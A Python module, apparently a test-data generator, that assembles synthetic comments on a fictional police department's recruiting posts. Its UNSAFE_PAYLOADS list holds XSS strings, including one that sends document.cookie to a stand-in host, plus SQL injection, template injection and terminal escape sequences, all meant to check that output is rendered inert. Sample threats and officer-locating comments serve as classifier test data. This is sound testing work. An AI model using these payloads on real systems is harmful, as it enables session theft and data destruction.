"""Words for the synthetic audience: authors and comment templates, combined per seed.

Templates are combined (opener + body + closer, slots filled, casual spelling now and then), so
a few hundred fragments give many thousands of distinct, realistic comments. The department,
city and partner names are fictional.
"""

from __future__ import annotations

import random

CITY = "Springfield"
DEPT = "Springfield PD"

FIRST_NAMES = (
    "James Maria Robert Linda Michael Patricia David Jennifer Carlos Aisha Kevin Tanya Marcus "
    "Keisha Brian Nicole Luis Ana Derek Heather Andre Shanice Tyler Megan Jamal Rosa Kyle Amber "
    "Hector Dana Trevor Latoya Ethan Priya Miguel Brittany Darnell Chloe Jorge Fatima Cody "
    "Yolanda Malik Kristen Omar Lauren Dominic Imani Travis Gloria Wei Sofia Ray Tamika Frank "
    "Jasmine Greg Nadia Sean Veronica Ahmed Courtney Victor Leah Terrence Mei Bobby Erin"
).split()
LAST_NAMES = (
    "Smith Johnson Williams Brown Jones Garcia Miller Davis Rodriguez Martinez Hernandez Lopez "
    "Wilson Anderson Thomas Taylor Moore Jackson Martin Lee Thompson White Harris Clark Lewis "
    "Robinson Walker Young Allen King Wright Scott Torres Nguyen Hill Flores Green Adams Nelson "
    "Baker Hall Rivera Campbell Mitchell Carter Roberts Okafor Patel Kowalski Sullivan Brooks"
).split()
HANDLE_WORDS = (
    "runner coffee mom dad fan life 317 guy gal ville born blue hoops fishing garden tacos "
    "marine vet nurse teacher coach bikes dogs cats music books grill pixel"
).split()
PARTNERS = (
    ("SpringfieldCC", "Springfield Community College"),
    ("SpfldYMCA", "Springfield YMCA"),
    ("LincolnHSCareers", "Lincoln High Career Center"),
    ("VFWPost1127", "VFW Post 1127"),
    ("SpfldLibrary", "Springfield Public Library"),
    ("EastsideBGC", "Eastside Boys & Girls Club"),
    ("SpfldChamber", "Springfield Chamber of Commerce"),
    ("HopeAMEChurch", "Hope AME Church"),
    ("SpfldFireDept", "Springfield Fire Department"),
    ("LatinoBizAssoc", "Springfield Latino Business Association"),
)


def author(rng: random.Random, platform: str, *, partner: bool = False) -> tuple[str, str]:
    """A commenter's display name (Facebook) or handle (X, Instagram), and a stable user id."""
    if partner:
        handle, name = rng.choice(PARTNERS)
        display = name if platform == "facebook" else handle
        return display, str(1_000_000 + sum(ord(c) for c in handle) * 7919)
    first, last = rng.choice(FIRST_NAMES), rng.choice(LAST_NAMES)
    if platform == "facebook":
        display = f"{first} {last}"
    else:
        style = rng.randrange(5)
        if style == 0:
            display = f"{first.lower()}{last.lower()}{rng.randrange(10, 99)}"
        elif style == 1:
            display = f"{first[0].lower()}{last.lower()}"
        elif style == 2:
            display = f"{first.lower()}_{rng.choice(HANDLE_WORDS)}"
        elif style == 3:
            display = f"{last}{first[0]}{rng.randrange(1, 9999)}"
        else:
            display = f"{rng.choice(HANDLE_WORDS)}{first.lower()}{rng.choice(('', '_', '.'))}"
        display = display.replace("..", ".")
    user_id = str(rng.randrange(10**9, 10**10 - 1))
    return display, user_id


# ---- comment templates -----------------------------------------------------------------------
# Questions about applying, by topic. Slots: {city}, {dept}.
QUESTIONS: dict[str, tuple[str, ...]] = {
    "pay": (
        "what's the starting pay?",
        "how much do recruits make while in the academy?",
        "is the academy paid or do you have to cover it yourself?",
        "what does a first-year officer make in {city}?",
        "do you offer a signing bonus for lateral officers?",
        "is there a pay bump for a bachelor's degree?",
        "how does overtime work for new officers?",
        "what's the pay scale after probation?",
        "do you pay more for bilingual officers?",
        "is the pension any good compared to the county?",
    ),
    "requirements": (
        "do you need a college degree to apply?",
        "are visible tattoos allowed?",
        "does a misdemeanor from 10 years ago disqualify you?",
        "what's on the physical test? how many pushups?",
        "do you have to live in {city} to work for {dept}?",
        "is there a credit check as part of the background?",
        "I wear glasses, is that a problem?",
        "does past marijuana use rule you out?",
        "do you take people with military experience but no degree?",
        "what's the written exam like? any study guide?",
        "can you apply if you're not a US citizen yet but have a green card?",
        "I had one speeding ticket, do you need a perfect driving record?",
        "is there a swim test?",
        "how long does the background check take?",
    ),
    "age": (
        "is there an age limit? I'm 44 and thinking about a career change",
        "can you apply at 20 if you turn 21 before the academy?",
        "what's the minimum age to apply?",
        "am I too old at 38 to start?",
        "my son is 18, can he start in a cadet program?",
        "is there a max age for the academy?",
    ),
    "event": (
        "where do we park for the info session?",
        "do I need to register or can I just show up?",
        "will there be a virtual option for people who work days?",
        "can I bring my daughter? she's interested too",
        "what should I bring to the testing day?",
        "is the ride-along open to anyone or only applicants?",
        "what time does it end? I get off work at 5",
        "is this at the main station or the training center?",
        "will someone from the academy staff be there to answer questions?",
        "will there be another one next month? can't make this date",
        "is there food? asking for my husband lol",
        "do I need to wear workout clothes for the fitness part?",
        "is it wheelchair accessible? my brother wants to come hear about dispatch jobs",
    ),
    "process": (
        "how long from application to academy start?",
        "do you hire lateral officers from out of state?",
        "are you hiring dispatchers too or only sworn?",
        "is there a part-time or reserve option?",
        "how do I apply? the link isn't working for me",
        "is the application still open?",
        "how many people do you hire each class?",
        "can I do a ride-along before applying?",
        "do you have community service officer positions?",
    ),
    "benefits": (
        "do you offer tuition reimbursement?",
        "what's the schedule like, 10s or 12s?",
        "is there childcare help for officers with kids?",
        "how many vacation days do new hires get?",
        "does the department cover health insurance for family?",
        "do you offer take-home cars?",
    ),
}

PRAISE: tuple[str, ...] = (
    "Thank you for your service!",
    "Great to see {dept} putting real officers front and center.",
    "Officers helped my mom after her accident last year. Truly kind people.",
    "My cousin went through your academy and loves it.",
    "Love seeing this. We need more officers who actually know the neighborhood.",
    "Inspiring. Sharing with my nephew who's been thinking about it.",
    "Proud of our officers. Keep up the good work!",
    "Such a great message. Community policing done right.",
    "Saw officers at the school fair last week, kids loved it.",
    "Really appreciate the honesty in this.",
    "This made my day. Thank you for everything you do.",
    "Best department in the state, no question.",
    "The youth academy changed my son's life, thank you.",
    "Glad you're recruiting locally, that matters.",
    "Huge respect. Night shift is no joke.",
    "Retired after 27 years here. Best decision I ever made was joining.",
    "Our block captain meetings got so much better with the new beat officers.",
    "Thank you {dept} for always showing up for the community.",
    "Love the new recruiting push, the videos are great.",
)
PRAISE_BY_KIND: dict[str, tuple[str, ...]] = {
    "testimonial": (
        "What a story. Thank you, Officer!",
        "She came to my son's school last month, such a great role model.",
        "He pulled over to help me change a tire in the rain once. Good people.",
        "This is the kind of story that makes me proud of our city.",
        "Great post. Nice to hear it from an officer and not a press release.",
        "Known this officer since high school, couldn't be prouder.",
        "Love hearing why people serve. More of these please.",
        "Such a positive video, well done {dept}!",
        "That part about the first night shift got me. Respect.",
    ),
    "event": (
        "Awesome event! Went last time and the recruiters were super helpful.",
        "Went to the last info session, very welcoming and no pressure.",
        "Great idea doing this on a Saturday so working folks can come.",
        "My daughter went to the open house and signed up for the cadet program!",
        "What a great way to get people interested.",
        "The ride-along last spring was eye opening. Highly recommend.",
        "Love that you're doing these in every neighborhood.",
    ),
    "announcement": (
        "Good to see the department being transparent about hiring.",
        "Nice to see the starting pay went up, well deserved.",
        "Glad to see more recruiting from our own community.",
    ),
}

HOSTILE: tuple[str, ...] = (
    "Maybe fix response times before recruiting. Waited 40 minutes last week.",
    "Nobody trusts you guys anymore, good luck hiring.",
    "Pay is a joke, no wonder nobody wants this job.",
    "How about you answer my records request first?",
    "PR stunt. Same old department.",
    "Defund this and fund mental health responders instead.",
    "You can't even keep the officers you have.",
    "This is propaganda, plain and simple.",
    "Nice photo op. Now do something about the break-ins on 5th.",
    "Still waiting for an apology for what happened downtown.",
    "Lol who would sign up for this",
    "Quit wasting tax money on social media.",
    "My car got towed by you people for no reason. Never again.",
    "Your officers drive like maniacs, start there.",
    "Hard pass. The overtime mandates are brutal, ask anyone who left.",
    "All talk. Show me the body cam policy.",
    "Unfollowing. This page is just ads now.",
    "Hiring more won't fix a culture problem.",
    "Called about a stolen bike three times, nobody ever came. Now you want applicants?",
    "Sure, join the team that never answers the non-emergency line.",
    "Ask why half the last academy class quit.",
    "Maybe if leadership listened to the rank and file people would stay.",
    "You spent how much on this ad campaign?",
    "Not falling for the recruitment video again.",
    "Nobody in my neighborhood has seen a patrol car in months.",
    "The chief should resign before anyone signs up.",
)

# A few comments in the critical category cross the line: threats, veiled or plain, and
# abuse aimed at people ("hostile"), or attempts to locate an officer ("safety").
THREATS: tuple[str, ...] = (
    "Enjoy your last shift, officer. We'll be watching.",
    "Would be a shame if something happened to that nice patrol car.",
    "Watch your back out there, recruits.",
    "Pigs. Every one of you.",
    "Your days are numbered, Sgt. Hall.",
    "Sleep with one eye open, officer.",
    "Te estamos vigilando. Cuídate la espalda.",
)
SAFETY: tuple[str, ...] = (
    "Where was this photo taken? Looks like Riverside Park",
    "What's the name of the officer on the left?",
    "I know where he lives. Maple St, the blue house.",
    "His kids go to Lincoln Elementary, just saying.",
    "You can read the plate on his truck in the second pic.",
    "¿Dónde fue tomada esta foto? ¿Cómo se llama el oficial de la izquierda?",
)

PARTNER: tuple[str, ...] = (
    "Proud to partner with {dept}! Our criminal justice students will be at the info session.",
    "We're hosting the next {dept} testing prep night, come by the library!",
    "Great working with {dept} on youth mentoring this year.",
    "Our members are ready to help veterans make the jump. Stop by the post!",
    "Students: {dept} recruiters will be in the career center Thursday.",
    "Free fitness test prep at the Y for {dept} applicants, see our page.",
    "Honored to host this event. See everyone there!",
    "Congrats to the officers featured! Proud of our alumni.",
    "Local businesses are behind you {dept}. Thanks for keeping Main St safe.",
    "Sharing with our community! Spanish-language info available at our office.",
    "Our firefighters and your officers: same team. Good luck recruiting!",
    "We'll have a table at the career fair. Stop and say hi!",
    "Veterans: we can help with the paperwork for your GI Bill at the academy. Call the post!",
    "Reminder: our criminal justice certificate credits transfer toward the academy.",
    "Thanks for mentoring our teens this summer, {dept}!",
    "Our library has free practice tests for the written exam. Ask at the front desk!",
    "Proud sponsor of the {city} community safety day. See you there!",
    "We're spreading the word in our newsletter this week!",
)

NEUTRAL: tuple[str, ...] = (
    "Interesting.",
    "Sharing for a friend.",
    "Tagging my brother in case he hasn't seen this.",
    "Is this the same event as last spring?",
    "Saw the sign for this on the highway.",
    "First time seeing this page pop up in my feed.",
    "👀",
    "Hmm, might check it out.",
    "My neighbor's a dispatcher there, says it's busy.",
    "Bookmarking this.",
    "Didn't know the academy was that long.",
    "Where was this photo taken? Looks like Riverside Park.",
    "Ok.",
    "Saw this on the news too.",
    "Who's the officer in the second picture?",
    "How is this different from the county sheriff's hiring?",
    "Posting this in the neighborhood group.",
    "Commenting so more people see it.",
    "My uncle retired from there.",
    "Is the station on Oak still open?",
    "Is this going to be on the city website too?",
    "Sent this to my roommate.",
    "Same as last year?",
)

# Spanish-speaking residents ask and cheer too (and analysers must not choke on it).
SPANISH: dict[str, tuple[str, ...]] = {
    "question": (
        "¿Cuál es el salario inicial?",
        "¿Hay límite de edad para aplicar?",
        "¿Necesito ser ciudadano para aplicar?",
        "¿La sesión informativa será en español también?",
        "¿Dónde puedo estacionar para el evento?",
        "me interesa, cuales son los requisitos",
    ),
    "praise": (
        "¡Gracias por su servicio!",
        "Muy orgullosa de nuestros oficiales. 💙",
        "Excelente iniciativa, lo comparto con mi hijo.",
        "Felicidades a los nuevos oficiales, qué orgullo 👏",
    ),
    "hostile": (
        "Nadie confía en ustedes, suerte contratando.",
        "Primero arreglen el abuso de poder y luego busquen gente.",
        "Llamé al 911 y nunca llegaron. Qué vergüenza.",
    ),
}
SPANISH_TOPICS = ("pay", "age", "requirements", "event", "event", "requirements")
# Someone tagging a friend who should see the post.
TAGS = (
    "{friend} you should do this!",
    "{friend} this is what you were talking about",
    "{friend} look, they're hiring",
    "{friend} we should go to this",
    "{friend} 👀",
)
EMOJI_PRAISE = ("👏👏👏", "💙💙", "🙌🙌", "❤️", "🇺🇸💙🚔")

OPENERS = (
    "",
    "",
    "",
    "Hi! ",
    "Quick question: ",
    "Hey {dept}, ",
    "Question - ",
    "Hello, ",
    "Serious question, ",
    "Random but ",
)
QUESTION_CLOSERS = (
    "",
    "",
    "",
    " Thanks!",
    " Thank you!",
    " 🙏",
    " Asking for myself lol",
    " Asking for my son.",
    " Would love to know.",
    " DM me please",
)
PRAISE_CLOSERS = ("", "", " ❤️", " 👏👏", " 💙", " 🙌", " Thank you!", "!!")
HOSTILE_CLOSERS = ("", "", " 🙄", " Smh.", " Pathetic.", " 👎")
EMPHASIS = ("", "", "", " 💯", " 🔥")

# Content that must be shown inert (HTML, Rich markup, terminal escapes, template syntax).
UNSAFE_PAYLOADS: tuple[str, ...] = (
    "<script>alert('pwned')</script>",
    "<img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\">",
    "[link=http://phish.example/login]verify your badge here[/link]",
    "[bold red blink]RECRUITMENT IS A SCAM[/]",
    "\x1b[2J\x1b[1;31mSYSTEM COMPROMISED\x1b[0m",
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]0;owned\x07",
    "{{ config.items() }}",
    "</td></tr></table><h1>injected</h1>",
    "'; DROP TABLE comments; --",
)

_QUESTION_WEIGHTS = {
    "testimonial": {
        "pay": 3,
        "requirements": 4,
        "age": 3,
        "event": 0.5,
        "process": 3,
        "benefits": 2,
    },
    "event": {"pay": 2, "requirements": 3, "age": 2, "event": 7, "process": 2, "benefits": 1},
    "announcement": {
        "pay": 3,
        "requirements": 3,
        "age": 2,
        "event": 2,
        "process": 3,
        "benefits": 2,
    },
}


def _fill(template: str) -> str:
    return template.replace("{city}", CITY).replace("{dept}", DEPT)


def _casual(rng: random.Random, text: str) -> str:
    """Now and then, write it the way people type on phones."""
    roll = rng.random()
    if roll < 0.12:
        text = text.lower().rstrip(".")
    elif roll < 0.16:
        text = text.replace("you ", "u ").replace("are ", "r ")
    elif roll < 0.19 and not text.endswith("?"):
        text = text.upper()
    return text


def _close(text: str, closer: str) -> str:
    """Append ``closer`` without stacking punctuation ("city.!!")."""
    if closer.startswith("!") and text and text[-1] in ".!?":
        text = text[:-1]
    return text + closer


def _typo(rng: random.Random, text: str) -> str:
    """Swap two neighbouring letters once, the way thumbs do."""
    spots = [i for i in range(len(text) - 1) if text[i].isalpha() and text[i + 1].isalpha()]
    if not spots:
        return text
    i = rng.choice(spots)
    return text[:i] + text[i + 1] + text[i] + text[i + 2 :]


def _friend(rng: random.Random, platform: str) -> str:
    first, last = rng.choice(FIRST_NAMES), rng.choice(LAST_NAMES)
    return f"{first} {last}" if platform == "facebook" else f"@{first.lower()}{last.lower()[:3]}"


def comment(rng: random.Random, category: str, kind: str, platform: str) -> tuple[str, str]:
    """(topic, text) of one comment in ``category`` on a post of ``kind``."""
    topic, text = _comment(rng, category, kind, platform)
    if rng.random() < 0.05:
        text = _typo(rng, text)
    return topic, text


def _comment(rng: random.Random, category: str, kind: str, platform: str) -> tuple[str, str]:
    if category == "hostile" and rng.random() < 0.12:
        # Past criticism: a threat or an attempt to locate an officer, now and then.
        kind_of = rng.choice(("hostile", "safety"))
        return kind_of, rng.choice(THREATS if kind_of == "hostile" else SAFETY)
    if category in SPANISH and rng.random() < 0.12:
        index = rng.randrange(len(SPANISH[category]))
        text = SPANISH[category][index]
        topic = SPANISH_TOPICS[index] if category == "question" else category
        return topic, text
    if category == "praise" and rng.random() < 0.08:
        return "praise", rng.choice(EMOJI_PRAISE)
    if category == "neutral" and kind == "event" and rng.random() < 0.35:
        return "tag", rng.choice(TAGS).replace("{friend}", _friend(rng, platform))
    if category == "question":
        weights = _QUESTION_WEIGHTS.get(kind, _QUESTION_WEIGHTS["announcement"])
        topics = list(weights)
        topic = rng.choices(topics, [weights[t] for t in topics])[0]
        body = rng.choice(QUESTIONS[topic])
        opener = rng.choice(OPENERS)
        if opener and body[0].islower():
            body = body[0].lower() + body[1:]
        elif not opener:
            body = body[0].upper() + body[1:]
        text = opener + body
        if rng.random() < 0.15:  # a second question in the same breath
            second = rng.choice(QUESTIONS[rng.choice(topics)])
            if second != body:
                text += rng.choice((" Also ", " And ", " Oh and ")) + second
        text += rng.choice(QUESTION_CLOSERS)
        if rng.random() < 0.08:  # typed on a phone: capitals and no question mark
            text = text.upper().replace("?", "")
    elif category == "praise":
        topic = "praise"
        pool = PRAISE + PRAISE_BY_KIND.get(kind, ()) * 2  # kind-specific praise twice as likely
        text = _close(rng.choice(pool), rng.choice(PRAISE_CLOSERS)) + rng.choice(EMPHASIS)
    elif category == "hostile":
        topic = "hostile"
        text = rng.choice(HOSTILE) + rng.choice(HOSTILE_CLOSERS)
    elif category == "partner":
        topic = "partner"
        text = rng.choice(PARTNER)
    else:
        topic = "neutral"
        text = rng.choice(NEUTRAL)
    return topic, _casual(rng, _fill(text)).strip()


def with_unsafe_payload(rng: random.Random, text: str) -> str:
    payload = rng.choice(UNSAFE_PAYLOADS)
    return f"{text} {payload}" if rng.random() < 0.5 else f"{payload} {text}"
